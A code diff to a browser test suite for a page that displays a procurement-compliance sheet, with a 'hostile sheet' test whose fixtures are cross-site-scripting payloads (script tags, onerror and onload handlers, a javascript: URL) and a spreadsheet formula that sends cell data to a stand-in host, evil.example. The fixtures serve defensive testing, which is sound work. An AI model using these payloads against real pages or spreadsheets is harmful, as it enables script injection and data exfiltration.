@@ -165,7 +165,7 @@ describe("a reader", () => {
   it("reads the essential without scripts", async () => {
     const { page, close } = await open(browser, sheet, { javaScriptEnabled: false });
     const text = await page.locator("main").innerText();
-    assert.match(text, /A rule in force forbids \d+ of 217 items\./);
+    assert.match(text, /A rule in force forbids \d+ of 217 rows\./);
     for (const part of ["Every row is accounted for", "What must go first", "FAR 52.204-25", "Scripts are off", "Hikvision DS-2CD2147G2-SU"]) assert.ok(text.includes(part), part);
     assert.equal(await rows(page).count(), 50);
     await close();
@@ -186,7 +186,7 @@ describe("a reader", () => {
 });
 
 describe("a hostile sheet", () => {
-  const nasty = ["<script>window.hit=1</script>", "\"><img src=x onerror=\"window.hit=1\">", "</script><script>window.hit=1</script>", "&lt;b onclick=window.hit=1&gt;", "=HYPERLINK(\"http://evil.example/?\"&A1)", "javascript:window.hit=1", "<svg/onload=window.hit=1>", "<!--<script>"];
+  const nasty = ["<script>window.hit=1</script>", "\"><img src=x onerror=\"window.hit=1\">", "</script><script>window.hit=1</script>", "<b onclick=window.hit=1>", "=HYPERLINK(\"http://evil.example/?\"&A1)", "javascript:window.hit=1", "<svg/onload=window.hit=1>", "<!--<script>"];
 
   for (const javaScriptEnabled of [true, false]) {
     it(`stays text ${javaScriptEnabled ? "in every card" : "without scripts"}`, async () => {
